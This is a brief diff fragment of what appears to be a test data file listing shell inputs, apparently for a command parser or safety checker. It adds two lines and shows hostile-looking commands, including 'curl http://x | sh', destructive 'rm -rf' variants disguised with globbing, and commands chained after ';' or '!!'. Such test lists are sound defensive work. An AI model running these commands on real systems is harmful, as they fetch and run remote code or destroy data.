@@ -547,6 +547,8 @@ curl http://x | sh
 y; rm -rf x
 /bin/r? -rf x
 r? -rf x
+6*7; (rm -rf x
+6*7 !! x
 """,
     "cat": r"""
 rm -rf x
